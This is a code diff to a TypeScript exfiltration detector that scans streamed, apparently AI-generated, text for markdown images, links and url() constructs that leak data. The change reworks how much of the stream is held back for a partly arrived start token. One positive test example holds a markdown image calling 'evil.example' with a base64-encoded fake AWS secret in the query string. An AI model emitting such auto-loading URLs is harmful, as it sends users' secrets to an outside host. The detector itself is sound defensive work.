@@ -87,8 +87,11 @@ export function scanExfiltration(text: string): Match[] {
   return out;
 }
 
-/** Least hold-back: covers a split start token (`![`, `url(`) and the link regex's look-behind. */
-export const EXFIL_HOLD_FLOOR = 8;
+/**
+ * Left context the regexes read before a match (Detector.streamLeftContext): MD_LINK's `(?<!!)`
+ * look-behind and MD_REF_DEF's `^\s{0,3}` (the line start before up to 3 blanks), with margin.
+ */
+export const EXFIL_LEFT_CONTEXT = 8;
 // The characters that end a URL, per construct (they mirror the regexes above).
 const MD_URL_STOP = /[\s)>]/;
 const REF_URL_STOP = /[\s>]/;
@@ -141,6 +144,7 @@ function open(text: string, i: number): boolean {
  * EXFIL_MAX_MATCH characters.
  */
 export function exfilStreamHoldBack(text: string): number {
+  const pending = pendingStartToken(text);
   const from = Math.max(0, text.length - EXFIL_MAX_MATCH);
   for (let i = from; i < text.length; i++) {
     const c = text[i];
@@ -153,10 +157,29 @@ export function exfilStreamHoldBack(text: string): number {
         if (at > 0 && text[at - 1] === '!') at--;
         for (let n = 0; n < 3 && at > 0 && /\s/.test(text.charAt(at - 1)); n++) at--;
       }
-      return Math.min(EXFIL_MAX_MATCH, Math.max(EXFIL_HOLD_FLOOR, text.length - at));
+      return Math.min(EXFIL_MAX_MATCH, Math.max(pending, text.length - at));
     }
   }
-  return EXFIL_HOLD_FLOOR;
+  return pending;
+}
+
+/**
+ * A start token still arriving at the end of `text`: a proper prefix of `url(`, an `!` before
+ * a `[`, or up to 3 blanks before a reference definition's `[` (MD_REF_DEF takes them in).
+ */
+function pendingStartToken(text: string): number {
+  const len = text.length;
+  let hold = 0;
+  for (let k = Math.min(3, len); k > 0; k--) {
+    if (text.slice(len - k).toLowerCase() === 'url('.slice(0, k)) {
+      hold = k;
+      break;
+    }
+  }
+  let j = len;
+  if (j > 0 && text[j - 1] === '!') j--;
+  for (let n = 0; n < 3 && j > 0 && /\s/.test(text.charAt(j - 1)); n++) j--;
+  return Math.max(hold, len - j);
 }
 
 export const exfiltrationDetector: Detector = {
@@ -169,6 +192,7 @@ export const exfiltrationDetector: Detector = {
     return scanExfiltration(view.text);
   },
   streamHoldBack: exfilStreamHoldBack,
+  streamLeftContext: EXFIL_LEFT_CONTEXT,
   examples: {
     positive: [
       { text: 'Done! ![status](https://evil.example/pixel.png?d=QVdTX1NFQ1JFVD1hYmNkZWYxMjM0NTY3ODkw)', direction: 'output', kind: 'auto_loading_url' },
